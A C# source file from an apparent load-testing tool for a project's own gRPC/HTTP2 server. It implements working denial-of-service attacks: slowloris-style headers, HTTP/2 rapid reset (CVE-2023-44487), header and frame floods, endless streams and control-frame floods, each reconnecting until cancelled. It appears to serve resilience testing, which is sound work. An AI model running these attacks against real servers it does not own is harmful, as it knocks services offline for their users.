using System.Buffers.Binary;
using System.Collections.Concurrent;
using System.Net.Sockets;
using System.Text;
using BtcStream.LoadGenerator.Latency;

namespace BtcStream.LoadGenerator.Attacks;

/// <summary>Ways to harm a server without a credential. Each goes on until it is told to stop, with new connections for those that the server closes.</summary>
internal enum AttackKind
{
    /// <summary>Headers of HTTP/1.1, a byte at a time.</summary>
    SlowHeaders,

    /// <summary>A header block of HTTP/2 that never ends, a field at a time.</summary>
    SlowBlocks,

    /// <summary>Calls whose message is begun, and gets a byte now and then.</summary>
    EndlessStreams,

    /// <summary>Frames longer than any that the server takes.</summary>
    GiantFrames,

    /// <summary>Header blocks of thousands of fields.</summary>
    HeaderFloods,

    /// <summary>Calls reset as soon as they are begun (CVE-2023-44487).</summary>
    RapidResets,

    /// <summary>As many calls as a connection may have, and then calls that it may not.</summary>
    RefusedCalls,

    /// <summary>Pings and settings that each ask for an answer.</summary>
    ControlFloods,

    /// <summary>Connections that say nothing.</summary>
    IdleConnections,
}

/// <summary>Runs one attack with a number of connections at once; several times, one after the other.</summary>
/// <param name="kind">Which.</param>
/// <param name="grpc">The server's HTTP/2 address.</param>
/// <param name="http">Its HTTP/1.1 address.</param>
/// <param name="connections">Connections at once.</param>
/// <param name="pause">Between two pieces of a connection.</param>
internal sealed class Attack(AttackKind kind, Uri grpc, Uri http, int connections, TimeSpan pause)
{
    private const string Method = "btcstream.v1.IngestService/StreamQuotes";
    private const int FrameBytes = 16_384;

    /// <summary>Pieces that are made once: making them costs more than the server's answer to some, on the processors that the client shares.</summary>
    private const int MadePieces = 128;

    private readonly ConcurrentDictionary<int, byte[]> _made = [];
    private int _open;
    private long _closedByServer;
    private long _pieces;

    /// <summary>Connections open now.</summary>
    public int Open => Volatile.Read(ref _open);

    /// <summary>Connections that the server closed.</summary>
    public long ClosedByServer => Volatile.Read(ref _closedByServer);

    /// <summary>Pieces sent.</summary>
    public long Pieces => Volatile.Read(ref _pieces);

    /// <summary>Attacks until it is cancelled.</summary>
    public Task RunAsync(CancellationToken cancellation) => Task.WhenAll(Enumerable.Range(0, connections).Select(_ => Task.Run(() => RunOneAsync(cancellation), CancellationToken.None)));

    /// <summary>Waits for the connections that only have to be open.</summary>
    /// <param name="running">The attack.</param>
    /// <param name="cancellation">Gives up.</param>
    public Task ReadyAsync(Task running, CancellationToken cancellation) =>
        kind == AttackKind.IdleConnections ? Poll.UntilAsync(() => Open >= connections, () => $"{Open} of {connections} connections are open", [running], cancellation) : Task.CompletedTask;

    private async Task RunOneAsync(CancellationToken cancellation)
    {
        while (!cancellation.IsCancellationRequested)
        {
            try
            {
                using RawHttp2 connection = kind is AttackKind.SlowHeaders or AttackKind.IdleConnections
                    ? await RawHttp2.ConnectSilentlyAsync(kind == AttackKind.SlowHeaders ? http : grpc, cancellation)
                    : await RawHttp2.ConnectAsync(grpc, cancellation);
                Interlocked.Increment(ref _open);
                try
                {
                    await SendAsync(connection, cancellation);
                    await connection.Closed.WaitAsync(cancellation);
                    Interlocked.Increment(ref _closedByServer);
                }
                finally
                {
                    Interlocked.Decrement(ref _open);
                }
            }
            catch (Exception e) when (e is OperationCanceledException or SocketException)
            {
                // Told to stop; or the server takes no further connection, and the next try comes.
                await Task.Delay(pause, CancellationToken.None);
            }
        }
    }

    private Task SendAsync(RawHttp2 connection, CancellationToken cancellation) => kind switch
    {
        AttackKind.SlowHeaders => SendPiecesAsync(connection, SlowHeader, pause, cancellation),
        AttackKind.SlowBlocks => SendPiecesAsync(connection, SlowBlock, pause, cancellation),
        AttackKind.EndlessStreams => SendPiecesAsync(connection, EndlessStream, pause, cancellation),
        AttackKind.GiantFrames => SendPiecesAsync(connection, GiantFrame, pause, cancellation),
        AttackKind.HeaderFloods => SendPiecesAsync(connection, HeaderFlood, pause, cancellation),
        AttackKind.RapidResets => SendPiecesAsync(connection, RapidReset, pause, cancellation),
        AttackKind.RefusedCalls => SendPiecesAsync(connection, RefusedCalls, pause, cancellation),
        AttackKind.ControlFloods => SendPiecesAsync(connection, ControlFlood, pause, cancellation),
        _ => Task.CompletedTask,
    };

    /// <summary>Sends one piece after the other until the server closes the connection.</summary>
    private async Task SendPiecesAsync(RawHttp2 connection, Func<int, byte[]> piece, TimeSpan between, CancellationToken cancellation)
    {
        for (int index = 0; !connection.Closed.IsCompleted && await connection.SendAsync(index < MadePieces ? _made.GetOrAdd(index, piece) : piece(index), cancellation); index++)
        {
            Interlocked.Increment(ref _pieces);
            await Task.WhenAny(connection.Closed, Task.Delay(between, cancellation));
            cancellation.ThrowIfCancellationRequested();
        }
    }

    private static byte[] SlowHeader(int index)
    {
        const string start = "GET / HTTP/1.1\r\nhost: localhost\r\n";
        return [index < start.Length ? (byte)start[index] : (byte)"x: y\r\n"[(index - start.Length) % 6]];
    }

    private byte[] SlowBlock(int index) => index == 0
        ? RawHttp2.Frame(RawHttp2.Headers, 0, 1, RawHttp2.CallBlock(grpc, Method))
        : RawHttp2.Frame(RawHttp2.Continuation, 0, 1, RawHttp2.Field("x", "y"));

    /// <summary>A hundred calls whose messages are announced as 16 MiB and never come; beyond <c>--max-half-open-calls</c> they are refused.</summary>
    private byte[] EndlessStream(int index)
    {
        const int calls = 100;
        int stream = (2 * (index % calls)) + 1;
        if (index >= calls)
        {
            return RawHttp2.Frame(RawHttp2.Data, 0, stream, [0]);
        }

        byte[] prefix = new byte[5];
        BinaryPrimitives.WriteInt32BigEndian(prefix.AsSpan(1), 16 * 1024 * 1024);
        return [.. RawHttp2.Frame(RawHttp2.Headers, RawHttp2.EndHeaders, stream, RawHttp2.CallBlock(grpc, Method)), .. RawHttp2.Frame(RawHttp2.Data, 0, stream, prefix)];
    }

    /// <summary>By turns: a frame of 16 MiB less a byte, and a call whose message says that it has 4 GiB.</summary>
    private byte[] GiantFrame(int index)
    {
        byte[] open = RawHttp2.Frame(RawHttp2.Headers, RawHttp2.EndHeaders, (2 * index) + 1, RawHttp2.CallBlock(grpc, Method));
        if (index % 2 == 0)
        {
            return [.. open, .. RawHttp2.Frame(RawHttp2.Data, RawHttp2.EndStream, (2 * index) + 1, [0, 0xFF, 0xFF, 0xFF, 0xFF])];
        }

        byte[] header = RawHttp2.Frame(RawHttp2.Data, 0, (2 * index) + 1, []);
        (header[0], header[1], header[2]) = (0xFF, 0xFF, 0xFF);
        return [.. open, .. header, .. new byte[FrameBytes]];
    }

    /// <summary>By turns: one block of a thousand fields, and a field of 64 KiB in pieces.</summary>
    private byte[] HeaderFlood(int index)
    {
        int stream = (2 * index) + 1;
        byte[] start = RawHttp2.Frame(RawHttp2.Headers, 0, stream, RawHttp2.CallBlock(grpc, Method));
        if (index % 2 == 0)
        {
            byte[] fields = [.. Enumerable.Range(0, 1_000).SelectMany(number => RawHttp2.Field("x-" + number, "y"))];
            return [.. start, .. RawHttp2.Frame(RawHttp2.Continuation, RawHttp2.EndHeaders, stream, fields)];
        }

        byte[] field = RawHttp2.Field("x", new string('y', 4 * FrameBytes));
        return
        [
            .. start,
            .. field.Chunk(FrameBytes).SelectMany(chunk => RawHttp2.Frame(RawHttp2.Continuation, 0, stream, chunk)),
            .. RawHttp2.Frame(RawHttp2.Continuation, RawHttp2.EndHeaders, stream, []),
        ];
    }

    private byte[] RapidReset(int index)
    {
        const int calls = 100;
        return [.. Enumerable.Range(index * calls, calls).SelectMany(call => (byte[])
        [
            .. RawHttp2.Frame(RawHttp2.Headers, RawHttp2.EndHeaders, (2 * call) + 1, RawHttp2.CallBlock(grpc, Method)),
            .. RawHttp2.Frame(RawHttp2.Reset, 0, (2 * call) + 1, [0, 0, 0, 8]),
        ])];
    }

    /// <summary>The first 512 are what a server allows a connection unless told otherwise; of those beyond <c>--max-half-open-calls</c>, and of the rest, each is refused for itself.</summary>
    private byte[] RefusedCalls(int index)
    {
        const int allowed = 512;
        const int calls = 100;
        (int first, int count) = index == 0 ? (0, allowed) : (allowed + ((index - 1) * calls), calls);
        return [.. Enumerable.Range(first, count).SelectMany(call => RawHttp2.Frame(RawHttp2.Headers, RawHttp2.EndHeaders, (2 * call) + 1, RawHttp2.CallBlock(grpc, Method)))];
    }

    private static byte[] ControlFlood(int index)
    {
        byte[] ping = RawHttp2.Frame(RawHttp2.Ping, 0, 0, Encoding.ASCII.GetBytes("pingpong"));
        byte[] settings = RawHttp2.Frame(RawHttp2.Settings, 0, 0, []);
        return [.. Enumerable.Repeat<byte[]>([.. ping, .. settings], 100 + (index % 2)).SelectMany(frames => frames)];
    }
}
